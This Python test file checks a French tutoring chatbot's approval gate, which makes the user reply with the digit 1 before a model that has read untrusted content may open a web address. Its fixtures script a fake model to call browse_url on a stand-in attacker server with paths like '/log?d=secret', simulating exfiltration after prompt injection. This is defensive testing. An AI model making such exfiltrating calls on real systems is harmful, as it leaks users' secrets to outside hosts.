"""Permission to open an address: what counts as a yes, from whom, when, how often; and what a kill changes: nothing."""

from collections.abc import Callable, Iterator
from datetime import timedelta

import pytest
from sqlalchemy import delete, func, update
from sqlmodel import col, select

from bot.dao.work import runs
from bot.models import Address, InboundMessage, OutboundPart, PendingInteraction, Run, StoredFile, ToolCallRecord
from bot.models import Conversation as ConversationRow
from bot.services.approval.questions import MOST_QUESTIONS
from tests.fakes.attacker import Attacker
from tests.fakes.keys import conversation_id
from tests.fakes.model import Request, Step, calls, errors, says
from tests.integration.conversation.conftest import PUPIL, Line

KEY = conversation_id(PUPIL)


@pytest.fixture
def evil() -> Iterator[Attacker]:
    with Attacker() as attacker:
        yield attacker


@pytest.fixture
def tainted(open_line: Callable[..., Line], evil: Attacker) -> Line:
    """A line on which something untrusted was read in an earlier turn, and a model that opens an address it made up
    whenever somebody speaks."""
    line = open_line(browse_allow_hosts=f"127.0.0.1:{evil.port}")
    line.model.script(lambda _request: says("Bonjour"))
    line.says("Bonjour")
    line.hears()
    with line.database.write() as session:
        runs.taint(session, 1, KEY)
    line.model.script(lambda request: _opens(request, f"{evil.url}/log?d=secret"))
    return line


def _opens(request: Request, *addresses: str) -> Step:
    if request["messages"][-1]["role"] == "tool":
        return says("fini")
    return calls(("browse_url", {"urls": list(addresses)}))


def asks(line: Line) -> str:
    """The pupil speaks, and the question for permission leaves."""
    line.says("Regarde ça")
    return leaves(line)


def leaves(line: Line) -> str:
    """What is written is sent."""
    with line.database.write() as session:
        session.execute(update(OutboundPart).values(first_dispatched_at=line.clock.now()))
    line.clock.skip(1)
    return "\n".join(line.hears())


def interactions(line: Line) -> list[str]:
    with line.database.read() as session:
        return [row.outcome for row in session.exec(select(PendingInteraction).order_by(col(PendingInteraction.id)))]


@pytest.mark.parametrize("yes", ["1", "1️⃣", "oui 1", "1. Oui, seulement ceci"])
def test_the_digit_opens_it_once_and_the_agent_goes_on(tainted: Line, evil: Attacker, yes: str) -> None:
    assert f"{evil.url}/log?d=secret" in asks(tainted)
    before = tainted.credits()
    tainted.says(yes)
    assert leaves(tainted).endswith("fini")
    assert evil.paths() == ["/log?d=secret"]
    assert tainted.credits() == before, "the continuation is paid for already"
    assert tainted.run().tainted
    tainted.says("1")
    assert "Puis-je" in leaves(tainted), "the next 1 is a message like any other"
    assert evil.paths() == ["/log?d=secret"]


def test_an_address_that_was_allowed_may_be_shown(tainted: Line, evil: Attacker) -> None:
    allowed, other = f"{evil.url}/log?d=secret", f"{evil.url}/other?d=secret"

    def rule(request: Request) -> Step:
        step = _opens(request, allowed)
        return says(f"Lu : {allowed} et {other}") if request["messages"][-1]["role"] == "tool" else step

    tainted.model.script(rule)
    asks(tainted)
    tainted.says("1")
    heard = leaves(tainted)
    assert f"{allowed} et" in heard
    assert other not in heard


def test_a_digit_behind_a_list_is_asked_for_again(tainted: Line, evil: Attacker) -> None:
    asks(tainted)
    with tainted.database.write() as session:
        session.add(
            OutboundPart(
                conversation_id=KEY, key="list:0", address=PUPIL, channel="whatsapp", body="1. cours", state="sent"
            )
        )
    leaves(tainted)
    tainted.says("1")
    assert "chiffre 1" in leaves(tainted)
    assert evil.paths() == []
    tainted.says("1")
    assert evil.paths() == ["/log?d=secret"]


@pytest.mark.parametrize("no", ["2", "0", "non", "Non merci", "b", "non 2"])
def test_a_no_opens_nothing_and_is_not_asked_again(tainted: Line, evil: Attacker, no: str) -> None:
    asks(tainted)
    tainted.says(no)
    assert leaves(tainted).endswith("fini")
    assert "said no" in str(tainted.asked()[-1][-1]["content"])
    assert "[Permission]" in str([m["content"] for m in tainted.asked()[-1] if m["role"] == "user"][-1])
    assert (evil.log, interactions(tainted)) == ([], ["refused"])


@pytest.mark.parametrize(
    "words",
    ["oui", "ok vas-y", "un", "7", "C’est bon", "1 ?", "👍", "le 1er", "C’est bon, non ?", "?", "waaw",
    "oui 👎", "1 ✋🏿"],
)  # fmt: skip
def test_a_yes_in_words_is_told_the_digit_once(tainted: Line, evil: Attacker, words: str) -> None:
    asks(tainted)
    tainted.says(words)
    assert "chiffre 1" in leaves(tainted)
    tainted.says(words)
    assert "Puis-je" in leaves(tainted), "an ordinary message now, and what was asked is over"
    assert evil.log == []
    assert interactions(tainted)[0] == "cancelled"


def test_any_other_message_lets_go_of_it(tainted: Line, evil: Attacker) -> None:
    asks(tainted)
    tainted.model.script(lambda _request: says("Bien sûr."))
    tainted.says("C’est quoi cette adresse ?")
    tainted.says("1")
    assert (evil.log, interactions(tainted)) == ([], ["cancelled"])


def test_a_digit_after_the_expiry_is_an_ordinary_message(tainted: Line, evil: Attacker) -> None:
    asks(tainted)
    tainted.clock.skip(3_601)
    tainted.model.script(lambda _request: says("Un quoi ?"))
    tainted.says("1")
    assert (evil.log, interactions(tainted), leaves(tainted)) == ([], ["expired"], "Un quoi\u00a0?")


def test_a_digit_that_crosses_the_question_on_its_way_answers_something_else(tainted: Line, evil: Attacker) -> None:
    tainted.says("Regarde ça")
    tainted.model.script(lambda _request: says("Un quoi ?"))
    tainted.says("1")  # the question is written, but has not left
    assert (evil.log, interactions(tainted)) == ([], [""])
    leaves(tainted)
    tainted.says("1")
    assert evil.paths() == ["/log?d=secret"]


def test_nobody_else_answers_for_who_was_asked(tainted: Line, evil: Attacker) -> None:
    asks(tainted)
    with tainted.database.write() as session:
        session.execute(update(Address).values(signed_in_until=None))
    tainted.says("1")
    assert (evil.log, interactions(tainted)) == ([], ["expired"])


def test_a_run_that_was_cancelled_asked_nothing(tainted: Line, evil: Attacker) -> None:
    asks(tainted)
    with tainted.database.write() as session:
        session.execute(update(Run).values(stop_reason="cancelled"))
    tainted.model.script(lambda _request: says("Un quoi ?"))
    tainted.says("1")
    assert evil.log == []


def test_questions_end_though_every_one_is_answered_yes(tainted: Line, evil: Attacker) -> None:
    def rule(request: Request) -> Step:
        return _opens({"messages": [{"role": "user"}]}, f"{evil.url}/log?n={len(tainted.model.requests)}")

    tainted.model.script(rule)
    asks(tainted)
    for _ in range(MOST_QUESTIONS - 1):
        tainted.says("1")
        assert "Puis-je" in leaves(tainted)
    tainted.model.script(lambda request: says("fini") if "often" in str(request["messages"][-1]) else rule(request))
    tainted.says("1")
    assert "Puis-je" not in leaves(tainted)
    assert len(evil.log) == MOST_QUESTIONS


def test_the_yes_is_to_these_arguments_and_to_no_others(tainted: Line, evil: Attacker) -> None:
    """Whoever could change what is held after the person has read it would have a yes to something else."""
    asks(tainted)
    tainted.says("1")
    with tainted.database.read() as session:
        row = session.exec(select(ToolCallRecord).where(col(ToolCallRecord.approval_id).is_not(None))).one()
        assert runs.granted(session, row.run_id) == {row.call_id: f'{{"urls": ["{evil.url}/log?d=secret"]}}'}
    asked = tainted.model.requests[-1]["messages"][-2]["tool_calls"][0]["function"]["arguments"]
    assert asked == row.arguments


def test_a_worker_killed_after_asking_asks_once(open_line: Callable[..., Line], tainted: Line, evil: Attacker) -> None:
    """Killed between the question's row and the end of its run: another worker ends it and asks the model nothing."""
    tainted.says("Regarde ça")
    with tainted.database.write() as session:  # as if the transaction that ends the turn had never been
        run_id = session.exec(select(func.max(Run.id))).one()
        session.execute(delete(OutboundPart).where(col(OutboundPart.run_id) == run_id))
        session.execute(
            update(Run).where(col(Run.id) == run_id).values(status="running", stop_reason=None, ended_at=None)
        )
        closed = update(InboundMessage).where(col(InboundMessage.run_id) == run_id)
        session.execute(closed.values(processed_at=None, outcome=""))
    requests = len(tainted.model.requests)
    other = open_line(browse_allow_hosts=f"127.0.0.1:{evil.port}")
    other.drain()
    assert leaves(other).count("Puis-je") == 1
    assert len(other.model.requests) == requests
    assert other.run().tainted
    other.says("1")
    assert leaves(other).endswith("fini")
    assert evil.paths() == ["/log?d=secret"]


def test_an_open_question_and_a_second_one_of_the_same_step(tainted: Line, evil: Attacker) -> None:
    both = [("browse_url", {"urls": [f"{evil.url}/log?n={n}"]}) for n in (1, 2)]
    tainted.model.script(lambda _request: calls(*both))
    question = asks(tainted)
    assert "n=1" in question
    assert "n=2" not in question
    tainted.model.script(lambda _request: says("fini"))
    tainted.says("1")
    assert evil.paths() == ["/log?n=1"]


def test_files_of_a_tainted_run_carry_the_mark_and_others_do_not(line: Line) -> None:
    long = "Une phrase assez longue sur les fractions et les nombres décimaux. " * 100

    def rule(request: Request) -> Step:
        if request["messages"][-1]["role"] == "tool":
            return says(long)
        return calls(("generate_pdf", {"title": "Fiche", "content": "Une fiche."}))

    line.model.script(rule)
    line.says("Bonjour")
    with line.database.write() as session:
        runs.taint(session, 1, KEY)
    line.says("Encore")
    with line.database.read() as session:
        marks = [file.tainted for file in session.exec(select(StoredFile).order_by(col(StoredFile.id)))]
        upto = session.exec(select(ConversationRow.tainted_upto)).one()
        assert upto == runs.last_transcript_id(session, KEY)
    assert marks == [False, False, True, True], "the PDF of a long answer too"


def test_what_was_asked_is_open_again_when_the_agent_has_no_answer_to_something_else(
    tainted: Line, evil: Attacker
) -> None:
    asks(tainted)
    works = tainted.model._rule
    tainted.model.script(lambda _request: errors(503))
    tainted.says("Et la météo ?")
    assert "Réessayez" in leaves(tainted)
    assert works is not None
    tainted.model.script(works)
    tainted.says("1")
    assert leaves(tainted).endswith("fini")
    assert evil.paths() == ["/log?d=secret"]
    assert interactions(tainted) == ["answered"]


def test_what_was_asked_by_a_clock_ahead_is_answered_by_the_digit_once_it_is_back(
    tainted: Line, evil: Attacker
) -> None:
    tainted.clock.jump(3_000)
    asks(tainted)
    tainted.clock.jump(-3_000)
    tainted.says("oui")
    assert "chiffre 1" in leaves(tainted)
    assert evil.paths() == []
    tainted.says("1")
    assert leaves(tainted).endswith("fini")
    assert evil.paths() == ["/log?d=secret"]
    assert interactions(tainted) == ["answered"]


def test_a_digit_that_was_typed_before_the_question_left_opens_nothing(tainted: Line, evil: Attacker) -> None:
    asks(tainted)
    with tainted.database.write() as session:  # within what clocks may differ by
        session.execute(
            update(OutboundPart)
            .where(col(OutboundPart.key).contains("approval"))
            .values(first_dispatched_at=tainted.clock.now() + timedelta(seconds=30))
        )
    tainted.says("1")
    tainted.hears()
    assert evil.paths() == []
